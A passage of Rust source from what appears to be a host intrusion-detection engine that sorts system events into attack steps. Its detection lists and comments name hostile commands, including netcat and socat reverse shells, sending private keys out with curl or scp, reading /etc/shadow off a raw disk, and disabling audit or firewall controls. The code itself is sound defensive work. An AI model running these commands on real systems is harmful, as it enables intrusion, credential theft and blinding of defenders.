        let ok = int(ev, "evt.rawres").is_none_or(|r| r == 0 || r == -115 || (datagram && r > 0));
        let ip = server_ip(ev)?;
        if !ok {
            return None;
        }
        // A datagram to a multicast group or a broadcast address announces to the local
        // segment (VRRP, a multicast video feed, discovery): no server is reached.
        let group = match ip {
            IpAddr::V4(v4) => v4.is_multicast() || v4.is_broadcast(),
            IpAddr::V6(v6) => v6.is_multicast(),
        };
        if datagram && group {
            return None;
        }
        if is_local(&ip) {
            // The host's own addresses are no connection out; the link-local instance
            // metadata service is a step all the same (`Step::InstanceMetadata`).
            if !is_instance_metadata_ip(&ip) {
                return None;
            }
            return attack_step(ev)
                .filter(|(st, _)| *st == Step::InstanceMetadata)
                .map(|(st, what)| Activity::Step(st, what));
        }
        let name = text(ev, "proc.name").unwrap_or_default();
        let r = role(&name);
        let unusual_port = server_port(ev).is_none_or(|p| !COMMON_PORTS.contains(&p));
        let dropped = in_drop_dir(&text(ev, "proc.exepath").unwrap_or_default());
        // An interpreter running a program file of its own (a service's `python3
        // /app/collector.py`, `java -jar /opt/app.jar`) that connects to a server of the site
        // on a service's port is an application at its work (its database, its broker), not
        // a reverse shell: those run code given inline or on standard input, or a staged
        // script, or reach outside the site or an unusual port.
        let application =
            r == Role::Interpreter && is_inside(&ip) && !unusual_port && runs_program_file(ev);
        if r == Role::Shell
            || (r == Role::Interpreter && !application)
            || NET_TOOLS.contains(&name.as_str())
            || dropped
            || unusual_port
        {
            return Some(Activity::Outbound(
                text(ev, "fd.name").unwrap_or_else(|| ip.to_string()),
                name,
            ));
        }
        if !is_inside(&ip) {
            return Some(Activity::Contact(
                text(ev, "fd.name").unwrap_or_else(|| ip.to_string()),
                name,
                true,
            ));
        }
        return attack_step(ev).map(|(st, what)| Activity::Step(st, what));
    }
    if matches!(ty.as_str(), "dup" | "dup2" | "dup3") {
        let fdnum = int(ev, "evt.arg.newfd").or_else(|| int(ev, "fd.num"));
        let ftype = text(ev, "fd.type").unwrap_or_default();
        if fdnum.is_some_and(|n| (0..=2).contains(&n)) && matches!(ftype.as_str(), "ipv4" | "ipv6")
        {
            return Some(Activity::NetworkStdio(text(ev, "fd.name").unwrap_or(ftype)));
        }
        return None;
    }
    if matches!(ty.as_str(), "open" | "openat" | "openat2") {
        text(ev, "fd.name")?;
        if let Some(act) = open_activity(ev) {
            return Some(act);
        }
    }
    attack_step(ev).map(|(st, what)| Activity::Step(st, what))
}

/// What a successful open does toward an attack: a credential read, a persistence write, a
/// file written into a drop directory.
fn open_activity(ev: &FlatEvent) -> Option<Activity> {
    let flag = |k: &str| matches!(ev.get(k), Some(quell_rules::Value::Bool(true)));
    let path = text(ev, "fd.name")?;
    let reader = text(ev, "proc.name").unwrap_or_default();
    let opened = int(ev, "fd.num").is_none_or(|n| n >= 0);
    if flag("evt.is_open_read")
        && is_credential(&path)
        && !reads_by_design(&reader, &path)
        && opened
    {
        return Some(Activity::CredentialRead(path, reader));
    }
    let write = opened_for_write(ev);
    if write && persists(&path) && !writes_by_design(&reader, &path) && opened {
        return Some(Activity::PersistenceWrite(path, reader));
    }
    if write && (in_drop_dir(&path) || crate::catalogue::installed_location(&path)) && opened {
        return Some(Activity::WroteFile(path, reader));
    }
    None
}

/// Whether `program` reads the credential file `path` every time it runs, by design: the
/// privilege tools their policy (`sudo` reads `/etc/sudoers`), the account and login tools
/// the password databases, the SSH daemon its host keys. Such a read says nothing about
/// the session.
pub fn reads_by_design(program: &str, path: &str) -> bool {
    const POLICY_READERS: &[&str] = &[
        "sudo", "sudoedit", "visudo", "su", "doas", "runuser", "pkexec",
    ];
    const ACCOUNT_TOOLS: &[&str] = &[
        "su",
        "sudo",
        "login",
        "sshd",
        "passwd",
        "chage",
        "chpasswd",
        "chsh",
        "chfn",
        "pwck",
        "grpck",
        "useradd",
        "usermod",
        "userdel",
        "groupadd",
        "groupmod",
        "groupdel",
        "gpasswd",
        "newusers",
        "vipw",
        "unix_chkpwd",
        "runuser",
        "doas",
    ];
    if privilege_policy(path) {
        return POLICY_READERS.contains(&program) || program == "polkitd";
    }
    if matches!(path, "/etc/shadow" | "/etc/gshadow") {
        return ACCOUNT_TOOLS.contains(&program);
    }
    if path.starts_with("/etc/ssh/ssh_host_") {
        return program == "sshd";
    }
    false
}

/// Credential files: at the root of this filesystem, or of another one mounted or reached
/// below it (`/mnt/disk/etc/shadow`, `/host/etc/sudoers`, `/proc/1/root/etc/shadow`), where
/// a container that mounted the host's disk reads the host's.
pub fn is_credential(path: &str) -> bool {
    credential_at_root(path)
        || path
            .match_indices("/etc/")
            .any(|(i, _)| i > 0 && credential_at_root(&path[i..]))
}

/// [`is_credential`] of a path taken from this filesystem's root.
fn credential_at_root(path: &str) -> bool {
    matches!(
        path,
        "/etc/shadow" | "/etc/gshadow" | "/etc/sudoers" | "/etc/master.passwd"
    ) || path.starts_with("/etc/sudoers.d/")
        || (path.contains("/.ssh/id_") && !path.ends_with(".pub"))
        || path.starts_with("/etc/ssh/ssh_host_") && !path.ends_with(".pub")
        || path.ends_with("/.aws/credentials")
        || path.ends_with("/.kube/config")
        || path.ends_with("/.docker/config.json")
        || path.contains("/.config/gcloud/")
}

/// The target of an event with its sensitivity.
pub fn target_sensitivity(ev: &FlatEvent) -> Option<(String, Sensitivity)> {
    target(ev).map(|(_, t)| {
        let s = sensitivity(&t);
        (t, s)
    })
}

// ------------------------------------------------ a person's quiet session (issue 11)
//
// What "nothing toward an attack" means for a person at a terminal: besides the session
// activities every alert weighs (a download, a dropped binary run, an unusual
// connection...), one event can show a step toward an attack by itself, by the kind of
// what it touches or runs (never by a rule's or a scenario's name). Only the test that
// lets a person's quiet session anchor a likely false positive weighs these steps
// (`person_quiet` in data/signals.yaml), over the whole session and the alert's own act.

/// A step toward an attack that one event shows by itself.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Step {
    /// A setuid or setgid bit set on a file (`chmod 4755`, `chmod u+s`).
    SetId,
    /// An account or group created or changed, a password set (`useradd`, `usermod`,
    /// `chpasswd`...), or an account, role or privilege granted through a program's own
    /// subcommand (`add_user`, `create clusterrolebinding`, `user:create`: see
    /// [`grants_by_subcommand`]).
    AccountChange,
    /// A persistence location or an account or privilege database (`authorized_keys`,
    /// `sudoers`, `shadow`, `passwd`, `group`) opened for writing, created or renamed onto.
    PrivilegedWrite,
    /// A security record (authentication and audit logs, login records, journal, shell
    /// history) removed, truncated, written over or renamed away.
    LogCleared,
    /// Credential material read, or named by a general-purpose reader: a service-account
    /// token or other mounted secret, a private key, a password database, cloud or cluster
    /// credentials, another process's environment (`/proc/1/environ`), the environment
    /// printed in a container (`env`, `printenv`).
    CredentialMaterial,
    /// A web request for secrets, tokens or a cloud's instance credentials (an orchestrator
    /// API's `/secrets`, a token request, the metadata address).
    SecretsRequest,
    /// A fetch toward another host with TLS verification switched off (`curl -k`).
    InsecureFetch,
    /// A search for private keys or passwords (`grep -r "BEGIN ... PRIVATE KEY"`,
    /// `find / -name id_rsa`).
    KeySearch,
    /// A shell or interpreter running a script from a temporary directory or a hidden path
    /// (`sh /tmp/.p.sh`): a dropped script, not only a dropped binary.
    ScriptRun,
    /// A privileged kernel interface: a namespace entered or created, a mount, a kernel
    /// module, an eBPF program, a raw or packet socket (or a tool that does these:
    /// `nsenter`, `unshare`, `mount`, `insmod`, `debugfs`, `chroot`).
    KernelInterface,
    /// The host reached from inside: another root (`/proc/N/root`), a host mount, the
    /// node's kubelet or cluster credentials, a container runtime's socket, a raw disk or
    /// memory device, a cgroup release agent or the kernel's core pattern.
    HostAccess,
    /// A network tool (netcat, socat, a scanner, a spoofer) run, or a listening socket
    /// opened (a bind shell).
    NetworkTool,
    /// A program that is not the system's own (outside the system's binary directories, or
    /// written after its container started): brought in, built or installed by hand.
    ForeignProgram,
    /// A connection to the orchestrator's API server or a node agent (ports 6443, 10250,
    /// 10255, 2379, or the API server's service name).
    OrchestratorApi,
    /// Another process's memory written or its reads and writes captured: a ptrace
    /// request that writes (`PTRACE_POKETEXT`, `PTRACE_SETREGS`...), or a tracer recording
    /// the data a process reads or writes (`strace -e trace=read`, `ltrace -e read`, or
    /// strings shown at length: `strace -s 1024`).
    Sniffing,
    /// A hidden file written in a temporary directory (`/tmp/.x`): where intruders stage.
    HiddenStaging,
    /// An interactive shell started by a program that is neither a shell, a login or
    /// terminal entry, a runtime, a privilege change nor an init (`vim` `:!bash` or
    /// `find -exec /bin/sh` run through sudo, `python -c 'pty.spawn("/bin/bash")'`): a way
    /// out of a program a person was allowed to run, or a reverse shell made interactive.
    ShellEscape,
    /// A server-side script (`.php`, `.jsp`, `.aspx`, `.cgi`...) written below a web
    /// server by a program that is neither the server nor an interpreter (a mailer, a
    /// shell, a copier): a web shell dropped through an injected command.
    WebScript,
    /// A shell's own connection to a host outside the site: shells do not connect except
    /// through a redirection to `/dev/tcp` or `/dev/udp`, which is how a reverse shell is
    /// made (inside the site the same redirection is a routine readiness probe).
    ShellConnect,
    /// A script file in a temporary directory handed to a program's own script as an
    /// argument (`php wp eval-file /tmp/u.php`): run all the same, and not the program's
    /// own code.
    ScriptArgument,
    /// An account given user id 0 beside root, or any id shared with another account
    /// (`useradd -o -u 0`, `usermod -u 0`, `--non-unique`): a second root login, which no
    /// package's own accounts and no routine administration make.
    RootAccount,
    /// A program started by a shell whose command (`sh -c '…'`) does not name it: what a
    /// command injected into a service's shell-out runs (`sh -c 'convert x.jpg y.jpg'`
    /// starting `curl`). A shell given a command runs the programs it names, and nothing
    /// else unless the command computes a program's name (a variable, `eval`, `source`),
    /// which is then no evidence.
    InjectedCommand,
    /// A command line that destroys a whole data store, whatever the program: a
    /// database, schema or keyspace dropped, a key-value store flushed
    /// (`DROP DATABASE`, `FLUSHALL`, `dropDatabase()`; see [`cmdline_destroys_store`]).
    StoreDestroyed,
    /// A command line that takes a whole data store at once, whatever the program: every
    /// database dumped (`--all-databases`), a DNS zone transferred (`AXFR`, `IXFR`), a
    /// keyring's secret keys exported (see [`cmdline_takes_store`]). Routine for a backup
    /// job; in a person's session it is what an intruder with the person's access takes.
    StoreTaken,
    /// A log the same session created (a rotation's fresh copy) removed by another of its
    /// programs: the records gone, copy and all (see `session::log_destroyed`).
    LogDestroyed,
    /// A connection to the cloud instance metadata service ([`is_instance_metadata_host`]),
    /// which hands out the instance role's credentials to whoever asks from the host. SDKs
    /// and cloud agents ask for them as their work; a server that answers clients outside
    /// the site and then asks has been steered there by a client (request forgery:
    /// `server_steered` in data/signals.yaml).
    InstanceMetadata,
    /// Key or credential material, or one of the system's configuration files, named as
    /// what a copy or upload tool sends to another host (`scp /keys/signing.key u@host:`,
    /// `curl -T id_rsa URL`, `scp /etc/app/db.conf u@host:`), not as the tool's own
    /// identity (`scp -i KEY`): the secret itself leaves, whichever address it goes to
    /// (see [`sends_key_material`]).
    KeySent,
    /// A sweep of a network: a network tool or a scanner given a range of addresses
    /// (`10.0.0.1-254`, `10.0.0.0/24`) or of more than a hundred ports (`1-1024`): looking for
    /// what answers, not checking a service it knows (see [`sweeps_network`]).
    Sweep,
    /// An interactive shell taken through a privilege change as an account that serves
    /// clients (`sudo -u www-data /bin/bash`, `su -s /bin/sh nginx`): the identity a web
    /// shell runs as, with the service's files and secrets, in a person's hands (see
    /// [`SERVING_ACCOUNTS`]). Running one program as that account is not.
    ServingAccountShell,
    /// A program hiding from debuggers: it asks to be traced (`PTRACE_TRACEME`) with no
    /// debugger or tracer for a parent, so that no debugger can attach to it. Falco's rule
    /// says it is typically malware's; a debugger's own child asks so by design (see
    /// [`DEBUGGERS`]).
    AntiDebug,
    /// A program started with its dynamic loader turned against it: a `GLIBC_TUNABLES` value
    /// that nests the tunables string in itself (the only way to reach CVE-2023-4911,
    /// "Looney Tunables", which no configuration writes), or a privilege program (`su`,
    /// `sudo`, `pkexec`, `passwd`, `mount`...) started with `LD_PRELOAD`, `LD_AUDIT` or
    /// `LD_LIBRARY_PATH` naming a temporary directory (see [`loader_hijack`]).
    LoaderHijack,
    /// Another process's memory or registers written through `ptrace` (`PTRACE_POKEDATA`,
    /// `PTRACE_SETREGS`) by a program that is no debugger ([`DEBUGGERS`]) nor a tool that
    /// moves a process by design (`criu`, `reptyr`): code put into a running process, such as
    /// a login daemon's (the blind holdout36: a replaced monitoring plugin writing into
    /// `sshd`). A debugger's writes are breakpoints: [`Step::Sniffing`].
    ProcessInjection,
    /// A network tool told to hand a shell or an interpreter to whoever is at the other end
    /// of its connection (`nc -e /bin/sh`, `nc -lvp 4444 -c bash`, `ncat --exec`, `socat
    /// TCP-LISTEN:… EXEC:/bin/bash`): a bind or reverse shell by its command line, which no
    /// check of a port needs (see [`serves_shell`]).
    ShellServed,
    /// A security control turned off or its records' times forged: the audit rules deleted
    /// or auditing disabled (`auditctl -D`, `-e 0`), a security or audit agent stopped,
    /// disabled, masked or killed (`systemctl stop falco`), the firewall flushed or
    /// disabled (`iptables -F`, `ufw disable`, `nft flush ruleset`), AppArmor torn down,
    /// or a system file's times set from another file or a given date (`touch -r`,
    /// `touch -d` on a program or a configuration file: hiding when it was changed). See
    /// [`evades_defenses`].
    DefenseEvasion,
    /// A credential file read straight off a disk device by a filesystem debugger
    /// (`debugfs -R "cat /etc/shadow" /dev/nvme0n1p1`): past the file's permissions and the
    /// container's mounts, which no routine work reads that way.
    RawDiskRead,
}

/// Whether a network tool's arguments hand a shell or an interpreter to its connection
/// ([`Step::ShellServed`]): netcat's and ncat's `-e`/`-c`/`--exec`/`--sh-exec`/`--lua-exec`
/// (`-e/bin/sh` run together too) followed by a shell or an interpreter, socat's `EXEC:`
/// address naming one or any `SYSTEM:` address (a shell command line).
pub fn serves_shell(name: &str, args: &[&str]) -> bool {
    let shell = |w: &str| {
        let w = w.trim_matches(|c| c == '"' || c == '\'');
        let first = w.split([' ', ',']).next().unwrap_or(w);
        let base = first.rsplit('/').next().unwrap_or(first);
        matches!(role(base), Role::Shell | Role::Interpreter)
    };
    match name {
        "nc" | "ncat" | "netcat" | "nc.traditional" | "nc.openbsd" => {
            args.iter().enumerate().any(|(i, a)| {
                let next = args.get(i + 1).copied().unwrap_or("");
                match *a {
                    // The program must be a shell's or an interpreter's: OpenBSD's `-c` is
                    // TLS (`nc -c host 443`), a check, not a command.
                    "-e" | "-c" | "--exec" | "--sh-exec" | "--lua-exec" => shell(next),
                    a => a
                        .strip_prefix("--exec=")
                        .or_else(|| a.strip_prefix("-e").filter(|r| r.starts_with('/')))
                        .is_some_and(shell),
                }
            })
        }
        "socat" => args.iter().any(|a| {
            let upper = a.to_ascii_uppercase();
            ["EXEC:", "SYSTEM:"].iter().any(|p| {
                upper
                    .find(p)
                    .is_some_and(|i| shell(&a[i + p.len()..]) || *p == "SYSTEM:")
            })
        }),
        _ => false,
    }
}

/// Security and audit agents by their process, unit or service names: stopping one
/// blinds the host's defenders.
pub const SECURITY_AGENTS: &[&str] = &[
    "auditd",
    "falco",
    "falco-modern-bpf",
    "falco-bpf",
    "falco-kmod",
    "apparmor",
    "wazuh-agent",
    "ossec",
    "osqueryd",
    "falcon-sensor",
    "cbagentd",
    "sysdig",
    "tetragon",
    "tracee",
    "aide",
    "clamav-daemon",
    "clamd",
    "fail2ban",
    "mdatp",
    "rsyslog",
    "syslog-ng",
    "systemd-journald",
    "firewalld",
    "ufw",
    "nftables",
];

/// Whether an execution turns a security control off or forges a system file's times
/// ([`Step::DefenseEvasion`]). SELinux set permissive (`setenforce 0`) is left out:
/// administrators do it while troubleshooting, and the mode shows afterwards.
pub fn evades_defenses(name: &str, args: &[&str]) -> bool {
    let agent = |w: &str| SECURITY_AGENTS.contains(&w.trim_end_matches(".service"));
    match name {
        "auditctl" => args.contains(&"-D") || args.windows(2).any(|w| w[0] == "-e" && w[1] == "0"),
        // A reload signal (`systemctl kill -s HUP rsyslog`, logrotate's postrotate) is how
        // a log rotation reopens the files, not a stop.
        "systemctl" => {
            args.iter()
                .any(|a| matches!(*a, "stop" | "disable" | "mask"))
                && args.iter().any(|a| agent(a))
        }
        "service" => args.len() >= 2 && agent(args[0]) && args[1] == "stop",
        "pkill" | "killall" => {
            let reload = args
                .iter()
                .any(|a| a.contains("HUP") || a.contains("USR") || matches!(*a, "-1" | "-10"));
            !reload
                && args
                    .iter()
                    .any(|a| agent(a) || agent(a.trim_end_matches('d')))
        }
        "ufw" => args.first() == Some(&"disable"),
        "iptables" | "ip6tables" | "iptables-legacy" | "iptables-nft" => {
            args.iter().any(|a| matches!(*a, "-F" | "--flush"))
                || args.windows(3).any(|w| {
                    matches!(w[0], "-P" | "--policy") && w[1] == "INPUT" && w[2] == "ACCEPT"
                })
        }
        "nft" => args
            .windows(2)
            .any(|w| w[0] == "flush" && w[1] == "ruleset"),
        "aa-teardown" => true,
        "touch" => {
            let forged = args.iter().any(|a| {
                matches!(*a, "-r" | "-t" | "-d" | "--reference" | "--date")
                    || a.starts_with("--reference=")
                    || a.starts_with("--date=")
            });
            let system = args.iter().any(|a| {
                [
                    "/etc/",
                    "/usr/",
                    "/bin/",
                    "/sbin/",
                    "/lib",
                    "/root/",
                    "/var/spool/cron",
                    "/boot/",
                ]
                .iter()
                .any(|p| a.starts_with(p))
                    || a.contains("/.ssh/")
            });
            forged && system
        }
        _ => false,
    }
}

/// Debuggers and tracers whose child asks to be traced before it runs the program under
/// debugging (`PTRACE_TRACEME`), as their names appear as the child's parent.
pub const DEBUGGERS: &[&str] = &[
    "gdb",
    "gdbserver",
    "lldb",
    "lldb-server",
    "lldb-server-1",
    "debugserver",
    "strace",
    "ltrace",
    "valgrind",
    "rr",
    "dlv",
    "edb",
    "radare2",
    "r2",
    "frida-server",
];

impl Step {
    /// The step in a few words (English).
    pub fn as_str(self) -> &'static str {
        match self {
            Step::SetId => "a setuid or setgid bit set",
            Step::AccountChange => "an account, privilege or password changed",
            Step::PrivilegedWrite => "a persistence or account file written",
            Step::LogCleared => "a security log cleared",
            Step::CredentialMaterial => "credential material read",
            Step::SecretsRequest => "a request for secrets or tokens",
            Step::InsecureFetch => "a fetch with TLS verification off",
            Step::KeySearch => "a search for keys or passwords",
            Step::ScriptRun => "a script run from a temporary or hidden path",
            Step::KernelInterface => "a namespace, mount, module or raw socket used",
            Step::HostAccess => "the host reached from inside",
            Step::NetworkTool => "a network tool or a listening socket",
            Step::Sweep => "a sweep of addresses or ports",
            Step::ServingAccountShell => "an interactive shell as a serving account",
            Step::ForeignProgram => "a program that is not the system's own",
            Step::OrchestratorApi => "a connection to the orchestrator's API",
            Step::Sniffing => "another process's memory written or its data captured",
            Step::HiddenStaging => "a hidden file written in a temporary directory",
            Step::ShellEscape => "a shell started from inside another program",
            Step::WebScript => "a server-side script written under a web server",
            Step::ShellConnect => {
                "a shell connecting to a host outside the site itself (a reverse shell)"
            }
            Step::ScriptArgument => "a script in a temporary directory handed to a program to run",
            Step::RootAccount => "an account given user id 0 or another account's id",
            Step::InjectedCommand => {
                "a program its shell's command does not name (an injected command)"
            }
            Step::StoreDestroyed => {
                "a whole database or data store dropped or flushed, or its newest files destroyed"
            }
            Step::StoreTaken => "a whole database, table, zone or keyring dumped or transferred",
            Step::LogDestroyed => "a log the same session had just created removed",
            Step::InstanceMetadata => "a connection to the cloud instance metadata service",
            Step::KeySent => "key, credential or configuration file copied to another host",
            Step::AntiDebug => "a program hiding from debuggers (traced at its own request, with no debugger above it)",
            Step::ProcessInjection => "code written into another process by a program that is no debugger",
            Step::LoaderHijack => "a program started with its dynamic loader turned against it (an exploit's GLIBC_TUNABLES, or a privilege program given a library from a temporary directory)",
            Step::ShellServed => "a network tool handing a shell to its connection (a bind or reverse shell)",
            Step::DefenseEvasion => "a security control turned off or a system file's times forged",
            Step::RawDiskRead => "a credential file read straight off a disk device",
        }
    }

    /// The step in a few words (Japanese).
    pub fn as_str_ja(self) -> &'static str {
        match self {
            Step::SetId => "setuid/setgid ビットの設定",
            Step::AccountChange => "アカウント・権限・パスワードの変更",
            Step::PrivilegedWrite => "永続化・アカウント関連ファイルへの書き込み",
            Step::LogCleared => "セキュリティログの消去",
            Step::CredentialMaterial => "認証情報の読み取り",
            Step::SecretsRequest => "秘密情報・トークンの要求",
            Step::InsecureFetch => "TLS 検証を無効にした取得",
            Step::KeySearch => "鍵・パスワードの探索",
            Step::ScriptRun => "一時ディレクトリまたは隠しパスのスクリプト実行",
            Step::KernelInterface => "名前空間・マウント・カーネルモジュール・raw ソケットの使用",
            Step::HostAccess => "コンテナ内からのホストへのアクセス",
            Step::NetworkTool => "ネットワークツールの実行または待ち受けソケット",
            Step::Sweep => "アドレスまたはポートの走査",
            Step::ServingAccountShell => "サービス提供用アカウントでの対話シェル",
            Step::ForeignProgram => "システム標準ではないプログラムの実行",
            Step::OrchestratorApi => "オーケストレーター API への接続",
            Step::Sniffing => "他プロセスのメモリ書き換えまたは入出力データの取得",
            Step::HiddenStaging => "一時ディレクトリへの隠しファイルの書き込み",
            Step::ShellEscape => "他のプログラムの内部から起動されたシェル",
            Step::WebScript => "Web サーバー配下でのサーバーサイドスクリプトの書き込み",
            Step::ShellConnect => "シェル自身によるサイト外ホストへの接続（リバースシェル）",
            Step::ScriptArgument => "一時ディレクトリのスクリプトをプログラムに渡して実行",
            Step::RootAccount => {
                "ユーザー ID 0 または他アカウントと同じ ID を持つアカウントの作成・変更"
            }
            Step::InjectedCommand => {
                "シェルのコマンドに含まれないプログラムの起動（注入されたコマンド）"
            }
            Step::StoreDestroyed => {
                "データベース・データストア全体の削除・消去、または最新ファイルの破棄"
            }
            Step::StoreTaken => "データベース全体・テーブル・DNS ゾーン・鍵束の一括取得・転送",
            Step::LogDestroyed => "同じセッションが作成した直後のログの削除",
            Step::InstanceMetadata => "クラウドのインスタンスメタデータサービスへの接続",
            Step::KeySent => "鍵・認証情報・設定ファイルそのものの他ホストへのコピー",
            Step::AntiDebug => "デバッガからの隠蔽（デバッガのない状態での PTRACE_TRACEME）",
            Step::ProcessInjection => "デバッガではないプログラムによる他プロセスへのコード書き込み",
            Step::LoaderHijack => "動的ローダーを悪用した起動（攻撃コードの GLIBC_TUNABLES、または一時ディレクトリのライブラリを与えられた特権プログラム）",
            Step::ShellServed => "ネットワークツールが接続先にシェルを渡している（バインドシェルまたはリバースシェル）",
            Step::DefenseEvasion => "セキュリティ機能の停止、またはシステムファイルのタイムスタンプ偽装",
            Step::RawDiskRead => "ディスクデバイスから直接の認証情報ファイルの読み取り",
        }
    }
}

/// Programs that create or change accounts, groups or passwords.
const ACCOUNT_CHANGERS: &[&str] = &[
    "useradd", "adduser", "usermod", "chpasswd", "newusers", "gpasswd", "groupadd", "addgroup",
    "groupmod", "passwd", "visudo", "vipw", "vigr",
];

/// Verbs of a subcommand that create or change something ([`grants_by_subcommand`]).
const GRANT_VERBS: &[&str] = &[
    "add", "create", "new", "grant", "set", "bind", "change", "reset", "invite", "register",
    "promote",
];

/// What such a verb must act on to grant access: an identity, a role or a privilege.
const GRANT_OBJECTS: &[&str] = &[
    "user",
    "users",
    "account",
    "accounts",
    "admin",
    "admins",
    "administrator",
    "role",
    "roles",
    "rolebinding",
    "rolebindings",
    "clusterrolebinding",
    "clusterrolebindings",
    "binding",
    "permission",
    "permissions",
    "privilege",
    "privileges",
    "superuser",
    "password",
    "passwd",
];

/// Whether a command line's words (its arguments, options left out) grant an account, a
/// role or a privilege through the program's own subcommand, whatever the program: a verb
/// that creates or changes (`GRANT_VERBS`) and an identity, role or privilege
/// (`GRANT_OBJECTS`), as two words (`create clusterrolebinding`, `user create` read
/// either way) or as the parts of one (`add_user`, `set-user-tags`, `user:create`,
/// `createuser`). An application's own accounts are as much a way back in as the
/// system's (`useradd`). Quoted SQL counts too (`"CREATE USER ..."`).
pub fn grants_by_subcommand(args: &[&str]) -> bool {
    let words: Vec<String> = args
        .iter()
        .filter(|a| !a.starts_with('-'))
        .map(|a| {
            a.trim_matches(|c: char| c == '"' || c == '\'' || c == ';')
                .to_ascii_lowercase()
        })
        .filter(|a| !a.is_empty() && !a.contains('/') && !a.contains('='))
        .collect();
    let verb = |w: &str| GRANT_VERBS.contains(&w);
    let object = |w: &str| GRANT_OBJECTS.contains(&w);
    let compound = |w: &str| {
        let parts: Vec<&str> = w.split(['_', '-', ':', '.']).collect();
        (parts.len() > 1 && parts.iter().any(|p| verb(p)) && parts.iter().any(|p| object(p)))
            || GRANT_VERBS
                .iter()
                .any(|v| w.strip_prefix(v).is_some_and(object))
    };
    // An identity's password set through the subcommand (`emqx ctl admins passwd admin X`,
    // `influx user password`).
    let identity = |w: &str| !matches!(w, "password" | "passwd") && object(w);
    words.iter().any(|w| compound(w))
        || words.windows(2).any(|p| {
            (verb(&p[0]) && object(&p[1]))
                || (object(&p[0]) && verb(&p[1]))
                || (identity(&p[0]) && matches!(p[1].as_str(), "password" | "passwd"))
        })
}

/// Verbs of a program's own subcommand that destroy or take away what it manages: data,
/// topics, queues, nodes, sessions (`topics delete`, `db:rollback`, `admin purge`).
pub const DESTRUCTIVE_VERBS: &[&str] = &[
    "delete",
    "del",
    "drop",
    "flush",
    "flushall",
    "flushdb",
    "purge",
    "truncate",
    "destroy",
    "wipe",
    "erase",
    "reset",
    "rollback",
    "remove",
    "rm",
    "revoke",
    "decommission",
    "evict",
    "shutdown",
    "kill",
    "uninstall",
];

/// Whether a command line's words (short options, paths and `key=value` words left out; a
/// long option's name kept, as `--delete`) act on
/// what the program manages by its own subcommand in a way that takes something away,
/// grants access or surveys who has access: a destructive verb ([`DESTRUCTIVE_VERBS`], alone
/// or in a compound such as `db:rollback` or `delete-topic`), a grant
/// ([`grants_by_subcommand`]), or a listing of its accounts (`list_users`, `user list`,
/// `admins list`). A listing of its data, a status or a statistics query is none (session
/// 23: an installed control program's subcommand is what tells an operator's check from a
/// stolen shell's deletion or survey of accounts).
pub fn sensitive_subcommand(args: &[&str]) -> bool {
    let mut parts: Vec<String> = Vec::new();
    for a in args {
        // A long option can be the verb itself (`kafka-topics --delete`), never its value.
        let a = match a.strip_prefix("--") {
            Some(opt) => opt.split('=').next().unwrap_or_default(),
            None if a.starts_with('-') || a.contains('/') || a.contains('=') => continue,
            None => a,
        };
        let w = a
            .trim_matches(|c: char| c == '"' || c == '\'' || c == ';')
            .to_ascii_lowercase();
        parts.extend(w.split(['_', '-', ':', '.']).map(str::to_string));
    }
    let listing = |w: &str| matches!(w, "list" | "ls" | "show" | "get" | "dump" | "export");
    let accounts = |w: &str| {
        matches!(
            w,
            "user" | "users" | "account" | "accounts" | "admin" | "admins" | "acl" | "acls"
        )
    };
    parts
        .iter()
        .any(|p| DESTRUCTIVE_VERBS.contains(&p.as_str()))
        || parts
            .windows(2)
            .any(|p| (listing(&p[0]) && accounts(&p[1])) || (accounts(&p[0]) && listing(&p[1])))
        || grants_by_subcommand(args)
}

/// Whether a command line (or a `sh -c` string's commands) changes the state of what its
/// program manages rather than reading it: a setter by name (`snmpset`, `setfacl`, `ipset`),
/// a `set`, `off`, `stop`, `disable`, `restart`, `reboot`, `poweroff` or `cycle` word (`ipmitool
/// chassis power off`, `redis-cli config set`), or a [`sensitive_subcommand`]. Used for
/// catalogue entries whose work only reads (`read_only`: a monitoring agent polls; session
/// 24, the blind holdout33: a Zabbix item switching a pump's outlet off with `snmpset` kept
/// the agent's anchor).
pub fn changes_state(cmdline: &str) -> bool {
    let inner = cmdline
        .split_once(" -c ")
        .filter(|(head, _)| {
            let p = head.split_whitespace().next().unwrap_or_default();
            SHELLS.contains(&p.rsplit('/').next().unwrap_or(p))
        })
        .map_or(cmdline, |(_, rest)| rest);
    inner
        .split([';', '|', '&', '\n'])
        .map(|c| {
            c.trim()
                .trim_matches(|c: char| c == '"' || c == '\'' || c == '(' || c == ')')
        })
        .filter(|c| !c.is_empty())
        .any(|c| {
            let mut words = c.split_whitespace();
            let prog = words.next().unwrap_or_default();
            let name = prog.rsplit('/').next().unwrap_or(prog);
            let args: Vec<&str> = words.collect();
            let setter = name.len() > 3 && (name.starts_with("set") || name.ends_with("set"));
            let verb = args.iter().any(|a| {
                matches!(
                    a.to_ascii_lowercase().as_str(),
                    "set"
                        | "off"
                        | "stop"
                        | "disable"
                        | "restart"
                        | "reboot"
                        | "poweroff"
                        | "cycle"
                )
            });
            setter || verb || sensitive_subcommand(&args)
        })
}

/// General-purpose programs that read, encode, copy or pack a file's contents.
const READERS: &[&str] = &[
    "cat",
    "tac",
    "head",
    "tail",
    "less",
    "more",
    "view",
    "base64",
    "base32",
    "basenc",
    "xxd",
    "od",
    "hexdump",
    "strings",
    "cp",
    "install",
    "dd",
    "tar",
    "zip",
    "gzip",
    "bzip2",
    "xz",
    "zstd",
    "7z",
    "openssl",
    "gpg",
    "nc",
    "ncat",
    "socat",
    "tee",
    "sed",
    "awk",
    "gawk",
    "mawk",
    "cut",
    "sort",
    "uniq",
    "grep",
    "egrep",
    "fgrep",
    "nl",
    "pr",
    "split",
    "vi",
    "vim",
    "nano",
    "python",
    "python3",
    "perl",
    "ruby",
    "node",
    "php",
    "jq",
    "yq",
    "sqlite3",
    "ssh-keygen",
];

/// Programs that enter or create namespaces, mount, load kernel modules or open raw disks.
const KERNEL_TOOLS: &[&str] = &[
    "nsenter",
    "unshare",
    "chroot",
    "pivot_root",
    "mount",
    "umount",
    "insmod",
    "modprobe",
    "rmmod",
    "debugfs",
    "capsh",
    "setcap",
    "bpftool",
    "kexec",
];

/// Scanners and spoofers, besides [`NET_TOOLS`].
const SCANNERS: &[&str] = &[
    "nmap",
    "masscan",
    "zmap",
    "arpspoof",
    "ettercap",
    "bettercap",
    "hping3",
    "responder",
    "arping",
    "tcpdump",
    "tshark",
    "dsniff",
    "mitmproxy",
];

/// Packages whose programs reach other hosts by hand: [`NET_TOOLS`] and [`SCANNERS`] under
